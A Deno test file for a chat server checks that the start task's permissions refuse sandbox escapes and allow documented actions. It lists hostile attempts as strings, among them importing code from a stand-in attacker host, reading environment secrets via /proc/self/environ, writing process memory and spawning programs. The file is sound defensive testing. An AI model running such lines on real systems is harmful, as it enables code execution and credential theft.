// What the permissions of the start task refuse, even to code that got into the server.

import { assertEquals } from "@std/assert";
import { startPermissions } from "../support/server_process.ts";

/**
 * Each must fail because of a missing permission. The script runs them with the start task's list.
 */
const REFUSED = {
  "start a program": `await new Deno.Command("true").output()`,
  "start a program as Node does": `(await import("node:child_process")).execFileSync("true")`,
  "load native code": `Deno.dlopen("/lib/libc.so.6", {})`,
  "load native code as Node does": `process.dlopen({ exports: {} }, "/tmp/none.node")`,
  "read a variable that is none of ours": `Deno.env.get("HOME")`,
  "read all variables": `Deno.env.toObject()`,
  "read the variables in /proc": `Deno.readTextFileSync("/proc/self/environ")`,
  "write its own memory in /proc": `Deno.openSync("/proc/self/mem", { write: true })`,
  "signal another process": `Deno.kill(Deno.ppid, "SIGCONT")`,
  "learn the machine's name": `Deno.hostname()`,
  "learn the machine's addresses": `Deno.networkInterfaces()`,
  "import code from any host": `await import("https://evil.example/x.ts")`,
  "ask for more": `{ const { state } = await Deno.permissions.request({ name: "run" });
    if (state !== "granted") throw new Deno.errors.NotCapable(state); }`,
} as const;

/** What remains allowed, as docs/security.md says. */
const ALLOWED = {
  "read any file": `Deno.readTextFileSync("/etc/hostname")`,
  "write in any folder": `Deno.writeTextFileSync("./written", "x")`,
  "connect to any host": `(await Deno.connect({ hostname: "127.0.0.1", port: PORT })).close()`,
  "listen on any port": `Deno.listen({ hostname: "127.0.0.1", port: 0 }).close()`,
  "read the settings": `Deno.env.get("HUBBUB_PASSWORD")`,
} as const;

function script(attempts: Readonly<Record<string, string>>, port: number): string {
  const lines = Object.entries(attempts).map(([name, code]) => `
    try { ${code}; results[${JSON.stringify(name)}] = "done"; }
    catch (error) { results[${JSON.stringify(name)}] = error.name + ": " + error.message; }`);
  return `import process from "node:process";
    const PORT = ${port}; const results = {};${lines.join("")}
    console.log(JSON.stringify(results)); process.exit(0);`;
}

async function tryOut(attempts: Readonly<Record<string, string>>): Promise<Record<string, string>> {
  const folder = await Deno.makeTempDir();
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  try {
    await Deno.writeTextFile(`${folder}/attempts.js`, script(attempts, listener.addr.port));
    const { stdout, stderr } = await new Deno.Command(Deno.execPath(), {
      args: ["run", "--quiet", "--no-config", ...startPermissions(), `${folder}/attempts.js`],
      cwd: folder,
      stdin: "null",
    }).output();
    const text = new TextDecoder();
    if (stdout.length === 0) throw new Error(text.decode(stderr));
    return JSON.parse(text.decode(stdout));
  } finally {
    listener.close();
    await Deno.remove(folder, { recursive: true });
  }
}

Deno.test("the start task's permissions refuse all that a chat server has no use for", async () => {
  for (const [name, what] of Object.entries(await tryOut(REFUSED))) {
    const refused = /NotCapable|PermissionDenied|Requires \w+ access/.test(what);
    assertEquals([name, what, refused], [name, what, true]);
  }
});

Deno.test("the start task's permissions allow what docs/security.md says they do", async () => {
  for (const [name, what] of Object.entries(await tryOut(ALLOWED))) {
    assertEquals([name, what], [name, "done"]);
  }
});
